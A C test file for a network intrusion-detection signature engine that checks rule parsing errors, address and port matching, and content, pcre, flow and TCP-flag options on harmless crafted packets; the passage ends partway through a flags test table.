/*
 * test-net-sig.c - the network signatures: rule parsing and its errors,
 * header, flow and payload matching with Suricata's semantics,
 * thresholds, TCP reassembly (split, reordered, overlapping, wrapped
 * and lost segments), the bundled rules on crafted packets, and the
 * bundled rules over the shared captures through the real decoder and
 * flow table.
 */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <pcap/pcap.h>

#include "core/error.h"
#include "net/net.h"
#include "net/net-conf.h"
#include "net/net-flow.h"
#include "net/net-sensor.h"
#include "net/net-sig.h"
#include "net/net-sig-int.h"
#include "test.h"

/* ---------------------------------------------------------------------
 * Helpers.
 */
struct hits {
	int		 n;
	uint32_t	 sid[256];
	struct net_detection d[256];
};

static void
collect(void *arg, const struct net_detection *d)
{
	struct hits *h = arg;

	if (h->n < 256) {
		h->sid[h->n] = d->sid;
		h->d[h->n] = *d;
	}
	h->n++;
}

static int
count_sid(const struct hits *h, uint32_t sid)
{
	int i, n = 0;

	for (i = 0; i < h->n && i < 256; i++)
		n += h->sid[i] == sid;
	return n;
}

static struct net_sigset *
load(const char *text)
{
	struct net_sigset *s = NULL;
	char err[512];
	int rc;

	rc = net_sig_load_buf("t.rules", text, strlen(text), NULL, &s, err,
	    sizeof(err));
	if (rc != 0)
		fprintf(stderr, "load failed: %s\n", err);
	return s;
}

/* Loads text expecting failure; returns the message (static). */
static const char *
load_err(const char *text)
{
	static char err[512];
	struct net_sigset *s = (struct net_sigset *)1;
	int rc;

	err[0] = '\0';
	rc = net_sig_load_buf("t.rules", text, strlen(text), NULL, &s, err,
	    sizeof(err));
	if (rc == 0) {
		net_sigset_free(s);
		return "(loaded)";
	}
	if (rc != MAMORI_ECONFIG || s != NULL)
		return "(wrong code or half-loaded)";
	return err;
}

static void
addr(struct net_addr *a, const char *s)
{
	memset(a, 0, sizeof(*a));
	if (strchr(s, ':') != NULL) {
		a->family = 6;
		inet_pton(AF_INET6, s, a->a);
	} else {
		a->family = 4;
		inet_pton(AF_INET, s, a->a);
	}
}

static uint8_t l4hdr[64];

static void
base_pkt(struct net_pkt *p, uint8_t proto, const char *src, uint16_t sport,
    const char *dst, uint16_t dport, const void *pl, size_t len, int64_t ts)
{
	memset(p, 0, sizeof(*p));
	p->ts_ns = ts;
	addr(&p->src, src);
	addr(&p->dst, dst);
	p->ipver = p->src.family;
	p->proto = proto;
	p->l4 = l4hdr;
	p->l4len = (uint32_t)(20 + len);
	p->sport = sport;
	p->dport = dport;
	p->payload = pl;
	p->plen = p->plen_wire = (uint32_t)len;
}

static void
tcp_pkt(struct net_pkt *p, const char *src, uint16_t sport, const char *dst,
    uint16_t dport, uint8_t flags, uint32_t seq, uint32_t ack,
    const void *pl, size_t len)
{
	base_pkt(p, NET_P_TCP, src, sport, dst, dport, pl, len, 1000000000LL);
	p->tcp_flags = flags;
	p->tcp_seq = seq;
	p->tcp_ack = ack;
	p->tcp_hlen = 20;
}

static void
udp_pkt(struct net_pkt *p, const char *src, uint16_t sport, const char *dst,
    uint16_t dport, const void *pl, size_t len)
{
	base_pkt(p, NET_P_UDP, src, sport, dst, dport, pl, len, 1000000000LL);
}

static void
icmp_pkt(struct net_pkt *p, const char *src, const char *dst, uint8_t type,
    uint8_t code, const void *pl, size_t len)
{
	base_pkt(p, NET_P_ICMP, src, 0, dst, 0, pl, len, 1000000000LL);
	p->icmp_type = type;
	p->icmp_code = code;
}

static void
flow_init(struct net_flow *f, uint8_t proto)
{
	memset(f, 0, sizeof(*f));
	f->proto = proto;
	f->established = 1;
	f->orig_pkts = f->resp_pkts = 1;
}

static void
flow_release(struct net_flow *f)
{
	int i;

	for (i = 0; i < NET_FLOW_NEXT; i++)
		if (f->ext[i] != NULL && f->ext[i]->free != NULL) {
			f->ext[i]->free(f->ext[i]);
			f->ext[i] = NULL;
		}
}

/* Runs one packet (no flow) through rules; returns the hits. */
static struct hits *
run1(const char *rules, const struct net_pkt *p, struct net_flow *f, int dir)
{
	static struct hits h;
	struct net_sigset *s;
	struct net_sig_ctx *c;

	memset(&h, 0, sizeof(h));
	h.n = -1;
	if ((s = load(rules)) == NULL)
		return &h;
	if ((c = net_sig_ctx_new(s)) == NULL) {
		net_sigset_free(s);
		return &h;
	}
	h.n = 0;
	net_sig_packet(c, p, f, dir, collect, &h);
	net_sig_ctx_free(c);
	net_sigset_free(s);
	return &h;
}

/* Whether the one rule in rule text matches payload pl in a TCP packet
 * 10.0.0.1:1234 -> 10.0.0.2:80 without a flow (packet matching). */
static int
matches(const char *opts, const char *pl)
{
	char rule[2048];
	struct net_pkt p;

	snprintf(rule, sizeof(rule), "alert tcp any any -> any any (%s "
	    "sid:1;)", opts);
	tcp_pkt(&p, "10.0.0.1", 1234, "10.0.0.2", 80, NET_TH_ACK |
	    NET_TH_PUSH, 1, 1, pl, strlen(pl));
	return run1(rule, &p, NULL, 0)->n;
}

/* ---------------------------------------------------------------------
 * Parsing.
 */
TEST(parse_errors)
{
	const char *e;

	e = load_err("alert tcp any any -> any any (msg:\"x\"; sid:1;)\n"
	    "alert tcp any any -> any any (foo:1; sid:2;)\n");
	CHECK_STR(e, "t.rules:2: unknown keyword 'foo'");
	e = load_err("alert tcp any any -> any any (http_uri; sid:2;)\n");
	CHECK(strstr(e, "t.rules:1: keyword 'http_uri' is not supported") ==
	    e);
	e = load_err("alert tcp any any -> any any (http.uri; content:\"x\"; "
	    "sid:2;)\n");
	CHECK(strstr(e, "not supported") != NULL);
	e = load_err("alert tcp 10.0.0.300 any -> any any (sid:1;)");
	CHECK_STR(e, "t.rules:1: bad address '10.0.0.300'");
	e = load_err("alert tcp 10.0.0.0/33 any -> any any (sid:1;)");
	CHECK(strstr(e, "bad prefix length") != NULL);
	e = load_err("alert tcp any 70000 -> any any (sid:1;)");
	CHECK(strstr(e, "port out of range") != NULL);
	e = load_err("alert tcp any 90:80 -> any any (sid:1;)");
	CHECK(strstr(e, "low above high") != NULL);
	e = load_err("alert tcp any !any -> any any (sid:1;)");
	CHECK(strstr(e, "matches no port") != NULL);
	e = load_err("alert tcp !any any -> any any (sid:1;)");
	CHECK(strstr(e, "matches no address") != NULL);
	e = load_err("alert tcp [1.2.3.4 any -> any any (sid:1;)");
	CHECK(strstr(e, "t.rules:1:") == e);
	e = load_err("alert tcp any any <- any any (sid:1;)");
	CHECK_STR(e, "t.rules:1: bad direction '<-' (-> or <>)");
	e = load_err("log tcp any any -> any any (sid:1;)");
	CHECK(strstr(e, "unknown action 'log'") != NULL);
	e = load_err("alert dns any any -> any any (sid:1;)");
	CHECK(strstr(e, "protocol 'dns' is not supported") != NULL);
	e = load_err("alert tcp $NOPE any -> any any (sid:1;)");
	CHECK_STR(e, "t.rules:1: unknown variable '$NOPE'");
	e = load_err("alert tcp any any -> any any (content:\"|4|\"; sid:1;)");
	CHECK(strstr(e, "odd number of hex digits") != NULL);
	e = load_err("alert tcp any any -> any any (content:\"|4g|\"; sid:1;)");
	CHECK(strstr(e, "bad hex digit") != NULL);
	e = load_err("alert tcp any any -> any any (content:\"|41\"; sid:1;)");
	CHECK(strstr(e, "unterminated '|'") != NULL);
	e = load_err("alert tcp any any -> any any (content:\"\"; sid:1;)");
	CHECK(strstr(e, "content is empty") != NULL);
	e = load_err("alert tcp any any -> any any (content:\"a\\q\"; sid:1;)");
	CHECK(strstr(e, "bad escape") != NULL);
	e = load_err("alert tcp any any -> any any (msg:\"abc; sid:1;)");
	CHECK(strstr(e, "unterminated string") != NULL);
	e = load_err("alert tcp any any -> any any (nocase; sid:1;)");
	CHECK(strstr(e, "'nocase' needs a content before it") != NULL);
	e = load_err("alert tcp any any -> any any (content:\"abcd\"; depth:3; "
	    "sid:1;)");
	CHECK(strstr(e, "depth 3 is less than the content's length 4") !=
	    NULL);
	e = load_err("alert tcp any any -> any any (content:\"a\"; "
	    "content:\"b\"; offset:1; distance:2; sid:1;)");
	CHECK(strstr(e, "cannot be mixed") != NULL);
	e = load_err("alert tcp any any -> any any (content:\"a\"; "
	    "distance:x; sid:1;)");
	CHECK(strstr(e, "not a number") != NULL);
	e = load_err("alert tcp any any -> any any (pcre:\"/a/q\"; sid:1;)");
	CHECK(strstr(e, "pcre: unknown flag 'q'") != NULL);
	e = load_err("alert tcp any any -> any any (pcre:\"/a/U\"; sid:1;)");
	CHECK(strstr(e, "HTTP buffer") != NULL);
	e = load_err("alert tcp any any -> any any (pcre:\"/a(/\"; sid:1;)");
	CHECK(strstr(e, "pcre: missing closing parenthesis") != NULL);
	e = load_err("alert tcp any any -> any any (pcre:\"abc\"; sid:1;)");
	CHECK(strstr(e, "expected \"/pattern/flags\"") != NULL);
	e = load_err("alert tcp any any -> any any (msg:\"x\";)");
	CHECK_STR(e, "t.rules:1: rule has no sid");
	e = load_err("alert tcp any any -> any any (sid:0;)");
	CHECK(strstr(e, "sid 0") != NULL);
	e = load_err("alert tcp any any -> any any (sid:1; sid:2;)");
	CHECK(strstr(e, "'sid' given twice") != NULL);
	e = load_err("alert tcp any any -> any any (classtype:nope; sid:1;)");
	CHECK(strstr(e, "unknown classtype 'nope'") != NULL);
	e = load_err("alert tcp any any -> any any (flow:sideways; sid:1;)");
	CHECK(strstr(e, "flow: unknown option 'sideways'") != NULL);
	e = load_err("alert tcp any any -> any any (flow:to_server,to_client; "
	    "sid:1;)");
	CHECK(strstr(e, "together") != NULL);
	e = load_err("alert tcp any any -> any any (flags:SX; sid:1;)");
	CHECK(strstr(e, "flags: bad value") != NULL);
	e = load_err("alert udp any any -> any any (flags:S; sid:1;)");
	CHECK(strstr(e, "needs protocol tcp") != NULL);
	e = load_err("alert tcp any any -> any any (itype:8; sid:1;)");
	CHECK(strstr(e, "need protocol icmp") != NULL);
	e = load_err("alert icmp any any -> any 80 (sid:1;)");
	CHECK(strstr(e, "ports need protocol") != NULL);
	e = load_err("alert tcp any any -> any any (dsize:10<>5; sid:1;)");
	CHECK(strstr(e, "empty range") != NULL);
	e = load_err("alert tcp any any -> any any (dsize:<0; sid:1;)");
	CHECK(strstr(e, "can never match") != NULL);
	e = load_err("alert tcp any any -> any any (dsize:abc; sid:1;)");
	CHECK(strstr(e, "dsize: bad value") != NULL);
	e = load_err("alert tcp any any -> any any (threshold:type limit, "
	    "track by_src, count 1; sid:1;)");
	CHECK(strstr(e, "needs type, track, count and seconds") != NULL);
	e = load_err("alert tcp any any -> any any (threshold:type limit, "
	    "track by_src, count 1, seconds 1; detection_filter:track "
	    "by_src, count 1, seconds 1; sid:1;)");
	CHECK(strstr(e, "only one threshold") != NULL);
	e = load_err("alert tcp any any -> any any (threshold:type backoff, "
	    "track by_src, count 1, seconds 1; sid:1;)");
	CHECK(strstr(e, "unsupported type 'backoff'") != NULL);
	e = load_err("alert tcp any any -> any any (sid:1;\n\n"
	    "alert tcp any any -> any any (sid:1;)\n");
	CHECK(strstr(e, "t.rules:1: rule does not end with ')'") == e);
	/* Duplicate sids: the later one, and where the first is. */
	e = load_err("alert tcp any any -> any any (sid:7;)\n"
	    "# comment\n"
	    "alert tcp any any -> any any (sid:8;)\n"
	    "alert udp any any -> any any (sid:7;)\n");
	CHECK_STR(e, "t.rules:4: duplicate sid 7 (first at t.rules:1)");
	/* The same sid in another gid is another rule. */
	CHECK_STR(load_err("alert tcp any any -> any any (sid:7;)\n"
	    "alert tcp any any -> any any (sid:7; gid:3;)\n"), "(loaded)");
	/* Error messages escape what they quote. */
	e = load_err("alert tcp any any -> any any (\x01\x02:1; sid:1;)");
	CHECK(strstr(e, "\\x01") != NULL);
	{
		static const char nul[] = "alert tcp any any -> any any "
		    "(msg:\"a\0b\"; sid:1;)";
		struct net_sigset *s = NULL;
		char err[256];

		CHECK_INT(net_sig_load_buf("n.rules", nul, sizeof(nul) - 1,
		    NULL, &s, err, sizeof(err)), MAMORI_ECONFIG);
		CHECK_STR(err, "n.rules:1: NUL byte in rule");
		CHECK(s == NULL);
	}
}

TEST(parse_errors_var)
{
	struct net_sig_vars *v = net_sig_vars_new();
	struct net_sigset *s = NULL;
	char err[512];
	const char *r = "alert tcp $A any -> any $P (sid:1;)";

	CHECK(v != NULL);
	CHECK_INT(net_sig_vars_set(v, "A", "$B"), 0);
	CHECK_INT(net_sig_vars_set(v, "B", "[1.2.3.4,$A]"), 0);
	CHECK_INT(net_sig_vars_set(v, "P", "80"), 0);
	CHECK_INT(net_sig_load_buf("v.rules", r, strlen(r), v, &s, err,
	    sizeof(err)), MAMORI_ECONFIG);
	CHECK(strstr(err, "v.rules:1: variable $") == err);
	CHECK(strstr(err, "nested too deeply") != NULL);
	CHECK_INT(net_sig_vars_set(v, "A", "10.0.0.0/8"), 0);
	CHECK_INT(net_sig_vars_set(v, "P", "[80,x]"), 0);
	CHECK_INT(net_sig_load_buf("v.rules", r, strlen(r), v, &s, err,
	    sizeof(err)), MAMORI_ECONFIG);
	CHECK_STR(err, "v.rules:1: variable $P: bad port 'x'");
	CHECK_INT(net_sig_vars_set(v, "bad name", "1"), MAMORI_EINVAL);
	CHECK_INT(net_sig_vars_set(v, "X", ""), MAMORI_EINVAL);
	CHECK_INT(net_sig_vars_set(v, "P", "[80,443]"), 0);
	CHECK_STR(net_sig_vars_get(v, "P"), "[80,443]");
	CHECK_INT(net_sig_load_buf("v.rules", r, strlen(r), v, &s, err,
	    sizeof(err)), 0);
	CHECK_INT(net_sigset_count(s), 1);
	net_sigset_free(s);
	net_sig_vars_free(v);
}

TEST(parse_ok)
{
	struct net_sigset *s;
	struct net_sig_info in;

	s = load("# a comment\n"
	    "\n"
	    "   # indented comment\n"
	    "alert tcp $HOME_NET any -> $EXTERNAL_NET $HTTP_PORTS "
	    "(msg:\"one \\\"quoted\\\" \\; thing\"; content:\"abc\"; \\\r\n"
	    "   nocase; classtype:web-application-attack; sid:10; rev:3;)\r\n"
	    "drop udp any any <> any 53 (msg:\"two\"; sid:11; priority:4; "
	    "metadata:created 2024, mamori_category leak;)\n"
	    "pass icmp any any -> any any (sid:12)\n"
	    "reject ip [10.0.0.0/8,!10.1.0.0/16] any -> "
	    "[2001:db8::/32,::ffff:192.0.2.0/120] any (sid:13;)\n");
	CHECK(s != NULL);
	if (s == NULL)
		return;
	CHECK_INT(net_sigset_count(s), 4);
	CHECK_INT(net_sig_info(s, 10, &in), 0);
	CHECK_STR(in.msg, "one \"quoted\" ; thing");
	CHECK_STR(in.classtype, "web-application-attack");
	CHECK_STR(in.category, "attack");
	CHECK_INT(in.priority, 1);
	CHECK_INT(in.rev, 3);
	CHECK_INT(in.line, 4);
	CHECK_STR(in.file, "t.rules");
	CHECK_STR(in.action, "alert");
	CHECK_INT(net_sig_info(s, 11, &in), 0);
	CHECK_STR(in.category, "leak");
	CHECK_INT(in.priority, 4);
	CHECK_STR(in.action, "drop");
	CHECK(in.classtype == NULL);
	CHECK_INT(net_sig_info(s, 12, &in), 0);
	CHECK_STR(in.action, "pass");
	CHECK_STR(in.msg, "");
	CHECK_STR(in.category, "other");
	CHECK_INT(in.priority, 3);
	CHECK_INT(net_sig_info(s, 99, &in), MAMORI_ENOTFOUND);
	net_sigset_free(s);

	CHECK_STR(net_sig_classtype_category("trojan-activity"), "backdoor");
	CHECK_STR(net_sig_classtype_category("attempted-recon"), "scan");
	CHECK_STR(net_sig_classtype_category("attempted-dos"), "dos");
	CHECK_STR(net_sig_classtype_category(NULL), "other");
	CHECK_STR(net_sig_classtype_category("nope"), "other");

	/* Empty input is an empty set. */
	s = load("");
	CHECK(s != NULL);
	CHECK_INT(net_sigset_count(s), 0);
	net_sigset_free(s);
}

TEST(parse_limits)
{
	char *big;
	size_t n = 70000, i;
	struct net_sigset *s = NULL;
	char err[256];
	const char *e;

	/* A rule longer than 64 KiB: refused. */
	big = malloc(n + 64);
	CHECK(big != NULL);
	if (big == NULL)
		return;
	strcpy(big, "alert tcp any any -> any any (msg:\"");
	for (i = strlen(big); i < n; i++)
		big[i] = 'a';
	strcpy(big + n, "\"; sid:1;)");
	CHECK_INT(net_sig_load_buf("b.rules", big, strlen(big), NULL, &s, err,
	    sizeof(err)), MAMORI_ECONFIG);
	CHECK(strstr(err, "b.rules:1: rule longer than 65536 bytes") == err);
	free(big);

	/* A content of exactly 2048 bytes is fine, 2049 is not. */
	big = malloc(2049 + 128);
	if (big == NULL)
		return;
	strcpy(big, "alert tcp any any -> any any (content:\"");
	n = strlen(big);
	memset(big + n, 'x', 2048);
	strcpy(big + n + 2048, "\"; sid:1;)");
	CHECK_INT(net_sig_load_buf("b.rules", big, strlen(big), NULL, &s, err,
	    sizeof(err)), 0);
	net_sigset_free(s);
	memset(big + n, 'x', 2049);
	strcpy(big + n + 2049, "\"; sid:1;)");
	CHECK_INT(net_sig_load_buf("b.rules", big, strlen(big), NULL, &s, err,
	    sizeof(err)), MAMORI_ECONFIG);
	CHECK(strstr(err, "content longer than 2048 bytes") != NULL);
	free(big);

	/* Deep list nesting. */
	e = load_err("alert tcp [[[[[[[[[[[[[[[[[[[1.2.3.4]]]]]]]]]]]]]]]]]]] "
	    "any -> any any (sid:1;)");
	CHECK(strstr(e, "nested too deeply") != NULL);
	/* Truncated rules. */
	CHECK(strstr(load_err("alert"), "rule ends after the action") != NULL);
	CHECK(strstr(load_err("alert tcp any any ->"), "header incomplete") !=
	    NULL);
	CHECK(strstr(load_err("alert tcp any any -> any any"),
	    "expected '('") != NULL);
	CHECK(strstr(load_err("alert tcp any any -> any any (sid:1;"),
	    "does not end with ')'") != NULL);
}

/* ---------------------------------------------------------------------
 * Header matching.
 */
static int
hdr_match(const char *hdr, const char *src, uint16_t sport, const char *dst,
    uint16_t dport)
{
	char rule[512];
	struct net_pkt p;

	snprintf(rule, sizeof(rule), "alert %s (sid:1;)", hdr);
	tcp_pkt(&p, src, sport, dst, dport, NET_TH_SYN, 1, 0, NULL, 0);
	return run1(rule, &p, NULL, 0)->n;
}

TEST(match_header)
{
	/* $HOME_NET defaults to RFC 1918; $EXTERNAL_NET is the rest. */
	CHECK_INT(hdr_match("tcp $HOME_NET any -> any any", "10.1.2.3", 1,
	    "8.8.8.8", 2), 1);
	CHECK_INT(hdr_match("tcp $HOME_NET any -> any any", "8.8.8.8", 1,
	    "10.1.2.3", 2), 0);
	CHECK_INT(hdr_match("tcp $EXTERNAL_NET any -> $HOME_NET any",
	    "8.8.8.8", 1, "192.168.1.1", 2), 1);
	CHECK_INT(hdr_match("tcp $EXTERNAL_NET any -> $HOME_NET any",
	    "172.16.0.1", 1, "192.168.1.1", 2), 0);
	/* Negation inside a list subtracts. */
	CHECK_INT(hdr_match("tcp [10.0.0.0/8,!10.1.0.0/16] any -> any any",
	    "10.2.0.1", 1, "1.1.1.1", 2), 1);
	CHECK_INT(hdr_match("tcp [10.0.0.0/8,!10.1.0.0/16] any -> any any",
	    "10.1.0.1", 1, "1.1.1.1", 2), 0);
	CHECK_INT(hdr_match("tcp [!10.1.0.0/16] any -> any any", "8.8.8.8", 1,
	    "1.1.1.1", 2), 1);
	CHECK_INT(hdr_match("tcp ![10.0.0.1,10.0.0.2] any -> any any",
	    "10.0.0.2", 1, "1.1.1.1", 2), 0);
	CHECK_INT(hdr_match("tcp ![10.0.0.1,10.0.0.2] any -> any any",
	    "10.0.0.3", 1, "1.1.1.1", 2), 1);
	/* Exact prefix edges. */
	CHECK_INT(hdr_match("tcp 10.0.0.128/25 any -> any any", "10.0.0.128",
	    1, "1.1.1.1", 2), 1);
	CHECK_INT(hdr_match("tcp 10.0.0.128/25 any -> any any", "10.0.0.127",
	    1, "1.1.1.1", 2), 0);
	CHECK_INT(hdr_match("tcp 10.0.0.129/25 any -> any any", "10.0.0.255",
	    1, "1.1.1.1", 2), 1);	/* host bits cleared */
	CHECK_INT(hdr_match("tcp 0.0.0.0/0 any -> any any", "1.2.3.4", 1,
	    "1.1.1.1", 2), 1);
	CHECK_INT(hdr_match("tcp 0.0.0.0/0 any -> any any", "2001:db8::1", 1,
	    "2001:db8::2", 2), 0);	/* IPv4 prefixes are IPv4 only */
	/* IPv6 and IPv4-mapped. */
	CHECK_INT(hdr_match("tcp 2001:db8::/32 any -> any any", "2001:db8:1::1",
	    1, "2001:db8::2", 2), 1);
	CHECK_INT(hdr_match("tcp 2001:db8::/32 any -> any any", "2001:db9::1",
	    1, "2001:db8::2", 2), 0);
	CHECK_INT(hdr_match("tcp ::ffff:192.0.2.0/120 any -> any any",
	    "192.0.2.77", 1, "1.1.1.1", 2), 1);
	/* Ports. */
	CHECK_INT(hdr_match("tcp any any -> any [80,8000:8100,!8050]",
	    "1.1.1.1", 1, "2.2.2.2", 8050), 0);
	CHECK_INT(hdr_match("tcp any any -> any [80,8000:8100,!8050]",
	    "1.1.1.1", 1, "2.2.2.2", 8100), 1);
	CHECK_INT(hdr_match("tcp any any -> any [80,8000:8100,!8050]",
	    "1.1.1.1", 1, "2.2.2.2", 8101), 0);
	CHECK_INT(hdr_match("tcp any any -> any !80", "1.1.1.1", 1, "2.2.2.2",
	    80), 0);
	CHECK_INT(hdr_match("tcp any any -> any !80", "1.1.1.1", 1, "2.2.2.2",
	    81), 1);
	CHECK_INT(hdr_match("tcp any 1024: -> any any", "1.1.1.1", 1023,
	    "2.2.2.2", 1), 0);
	CHECK_INT(hdr_match("tcp any 1024: -> any any", "1.1.1.1", 65535,
	    "2.2.2.2", 1), 1);
	CHECK_INT(hdr_match("tcp any :1023 -> any any", "1.1.1.1", 1023,
	    "2.2.2.2", 1), 1);
	CHECK_INT(hdr_match("tcp any [!$HTTP_PORTS] -> any any", "1.1.1.1",
	    8080, "2.2.2.2", 1), 0);
	CHECK_INT(hdr_match("tcp any any -> any [![1:100,!50]]", "1.1.1.1", 1,
	    "2.2.2.2", 50), 1);
	CHECK_INT(hdr_match("tcp any any -> any [![1:100,!50]]", "1.1.1.1", 1,
	    "2.2.2.2", 51), 0);
	/* Direction: -> one way, <> both. */
	CHECK_INT(hdr_match("tcp 1.1.1.1 any -> 2.2.2.2 80", "2.2.2.2", 80,
	    "1.1.1.1", 5), 0);
	CHECK_INT(hdr_match("tcp 1.1.1.1 any <> 2.2.2.2 80", "2.2.2.2", 80,
	    "1.1.1.1", 5), 1);
	CHECK_INT(hdr_match("tcp 1.1.1.1 any <> 2.2.2.2 80", "2.2.2.2", 81,
	    "1.1.1.1", 5), 0);
	/* Protocols. */
	CHECK_INT(hdr_match("udp any any -> any any", "1.1.1.1", 1, "2.2.2.2",
	    2), 0);
	CHECK_INT(hdr_match("ip any any -> any any", "1.1.1.1", 1, "2.2.2.2",
	    2), 1);
}

/* ---------------------------------------------------------------------
 * Payload options.
 */
TEST(match_content)
{
	CHECK_INT(matches("content:\"abc\";", "xxabcxx"), 1);
	CHECK_INT(matches("content:\"ABC\";", "xxabcxx"), 0);
	CHECK_INT(matches("content:\"ABC\"; nocase;", "xxaBcxx"), 1);
	CHECK_INT(matches("content:\"|61 62|c\";", "xxabcxx"), 1);
	CHECK_INT(matches("content:\"a|3b|b\";", "a;b"), 1);
	CHECK_INT(matches("content:\"a\\;b\";", "a;b"), 1);
	CHECK_INT(matches("content:\"a\\\"b\";", "a\"b"), 1);
	CHECK_INT(matches("content:!\"abc\";", "xxabxx"), 1);
	CHECK_INT(matches("content:!\"abc\";", "xxabcxx"), 0);
	/* offset/depth: the whole content inside [offset, offset+depth). */
	CHECK_INT(matches("content:\"abc\"; offset:2;", "xxabc"), 1);
	CHECK_INT(matches("content:\"abc\"; offset:3;", "xxabc"), 0);
	CHECK_INT(matches("content:\"abc\"; depth:5;", "xxabc"), 1);
	CHECK_INT(matches("content:\"abc\"; depth:4;", "xxabc"), 0);
	CHECK_INT(matches("content:\"abc\"; offset:2; depth:3;", "xxabcx"), 1);
	CHECK_INT(matches("content:\"abc\"; offset:1; depth:3;", "xxabcx"), 0);
	CHECK_INT(matches("content:\"abc\"; offset:100;", "xxabc"), 0);
	CHECK_INT(matches("content:!\"abc\"; depth:4;", "xxabc"), 1);
	/* distance/within from the end of the previous match. */
	CHECK_INT(matches("content:\"ab\"; content:\"cd\"; distance:0; "
	    "within:2;", "abcd"), 1);
	CHECK_INT(matches("content:\"ab\"; content:\"cd\"; distance:0; "
	    "within:2;", "abxcd"), 0);
	CHECK_INT(matches("content:\"ab\"; content:\"cd\"; distance:1; "
	    "within:2;", "abxcd"), 1);
	CHECK_INT(matches("content:\"ab\"; content:\"cd\"; distance:2;",
	    "abxcd"), 0);
	CHECK_INT(matches("content:\"ab\"; content:\"cd\"; distance:0;",
	    "cdab"), 0);
	/* Negative distance looks back. */
	CHECK_INT(matches("content:\"cd\"; content:\"ab\"; distance:-4; "
	    "within:2;", "abcd"), 1);
	CHECK_INT(matches("content:\"cd\"; content:\"ab\"; distance:-10; "
	    "within:8;", "abcd"), 1);
	/* Backtracking: the first "a" fails, the second works. */
	CHECK_INT(matches("content:\"a\"; content:\"b\"; distance:0; "
	    "within:1;", "axab"), 1);
	CHECK_INT(matches("content:\"a\"; content:\"b\"; distance:0; "
	    "within:1;", "axax"), 0);
	/* A relative negated content. */
	CHECK_INT(matches("content:\"GET \"; content:!\"admin\"; distance:0; "
	    "within:10;", "GET /admin HTTP"), 0);
	CHECK_INT(matches("content:\"GET \"; content:!\"admin\"; distance:0; "
	    "within:5;", "GET /xxxxxadmin"), 1);
	/* Independent contents in any order. */
	CHECK_INT(matches("content:\"world\"; content:\"hello\";",
	    "hello world"), 1);
	/* fast_pattern forms are accepted. */
	CHECK_INT(matches("content:\"ab\"; fast_pattern; content:\"zzz\";",
	    "ab zzz"), 1);
	CHECK_INT(matches("content:\"ab\"; fast_pattern:only;", "ab"), 1);
	CHECK_INT(matches("content:\"abc\"; fast_pattern:1,2; rawbytes;",
	    "abc"), 1);
	/* Empty payload: content rules do not match. */
	CHECK_INT(matches("content:!\"x\";", ""), 0);
}

TEST(match_pcre)
{
	CHECK_INT(matches("pcre:\"/a.c/\";", "xxabcxx"), 1);
	CHECK_INT(matches("pcre:\"/A.C/\";", "xxabcxx"), 0);
	CHECK_INT(matches("pcre:\"/A.C/i\";", "xxabcxx"), 1);
	CHECK_INT(matches("pcre:\"/a.c/\";", "a\nc"), 0);
	CHECK_INT(matches("pcre:\"/a.c/s\";", "a\nc"), 1);
	CHECK_INT(matches("pcre:\"/^b/\";", "a\nb"), 0);
	CHECK_INT(matches("pcre:\"/^b/m\";", "a\nb"), 1);
	CHECK_INT(matches("pcre:\"/a b c/x\";", "abc"), 1);
	CHECK_INT(matches("pcre:!\"/abc/\";", "abd"), 1);
	CHECK_INT(matches("pcre:!\"/abc/\";", "abc"), 0);
	CHECK_INT(matches("pcre:\"/b/A\";", "ab"), 0);
	/* R: on the bytes after the previous match, ^ anchored there. */
	CHECK_INT(matches("content:\"key=\"; pcre:\"/^[0-9]+;/R\";",
	    "key=123;"), 1);
	CHECK_INT(matches("content:\"key=\"; pcre:\"/^[0-9]+;/R\";",
	    "key=x123;"), 0);
	CHECK_INT(matches("content:\"key=\"; pcre:\"/^[0-9]+;/R\";",
	    "key=x key=12;"), 1);	/* the second key= */
	/* A content relative to a pcre's end. */
	CHECK_INT(matches("pcre:\"/[0-9]+/\"; content:\"x\"; distance:0; "
	    "within:1;", "12y 34x"), 1);
	CHECK_INT(matches("pcre:\"/\\d+;/\"; content:\"end\";",
	    "end 12;"), 1);
}

TEST(match_flow_flags_sizes)
{
	struct net_pkt p;
	struct net_flow f;
	struct hits *h;
	const char *rs = "alert tcp any any -> any any (flow:to_server,"
	    "established; sid:1;)\n"
	    "alert tcp any any -> any any (flow:from_server; sid:2;)\n"
	    "alert tcp any any -> any any (flow:not_established; sid:3;)\n"
	    "alert tcp any any -> any any (flow:stateless; sid:4;)\n";

	tcp_pkt(&p, "10.0.0.1", 1234, "10.0.0.2", 80, NET_TH_ACK, 1, 1, NULL,
	    0);
	flow_init(&f, NET_P_TCP);
	h = run1(rs, &p, &f, 0);
	CHECK_INT(h->n, 2);
	CHECK_INT(count_sid(h, 1), 1);
	CHECK_INT(count_sid(h, 4), 1);
	h = run1(rs, &p, &f, 1);
	CHECK_INT(h->n, 2);
	CHECK_INT(count_sid(h, 2), 1);
	f.established = 0;
	h = run1(rs, &p, &f, 0);
	CHECK_INT(h->n, 2);
	CHECK_INT(count_sid(h, 3), 1);
	/* Without a flow only stateless and not_established hold. */
	h = run1(rs, &p, NULL, 0);
	CHECK_INT(h->n, 2);
	CHECK_INT(count_sid(h, 3), 1);
	CHECK_INT(count_sid(h, 4), 1);
	flow_release(&f);
	/* UDP is established once both sides spoke. */
	udp_pkt(&p, "10.0.0.1", 53, "10.0.0.2", 5353, "x", 1);
	flow_init(&f, NET_P_UDP);
	f.resp_pkts = 0;
	CHECK_INT(run1("alert udp any any -> any any (flow:established; "
	    "sid:1;)", &p, &f, 0)->n, 0);
	f.resp_pkts = 1;
	CHECK_INT(run1("alert udp any any -> any any (flow:established; "
	    "sid:1;)", &p, &f, 0)->n, 1);

	/* flags, as Suricata's FlagsMatch. */
	{
		static const struct {
			const char *flags;
			uint8_t pkt;
			int want;
		} ft[] = {
			{ "S", NET_TH_SYN, 1 },
			{ "S", NET_TH_SYN | NET_TH_ACK, 0 },
			{ "SA", NET_TH_SYN | NET_TH_ACK, 1 },
			{ "S+", NET_TH_SYN | NET_TH_ACK, 1 },
			{ "+S", NET_TH_ACK, 0 },
			{ "*SF", NET_TH_FIN | NET_TH_ACK, 1 },
			{ "*SF", NET_TH_ACK, 0 },
			{ "!R", NET_TH_ACK, 1 },
			{ "!R", NET_TH_RST | NET_TH_ACK, 0 },
			/* ! holds unless all the given flags are set */
			{ "!SA", NET_TH_SYN, 1 },
			{ "!SA", NET_TH_SYN | NET_TH_ACK, 0 },
			{ "SA!", NET_TH_SYN | NET_TH_ACK | NET_TH_PUSH, 0 },
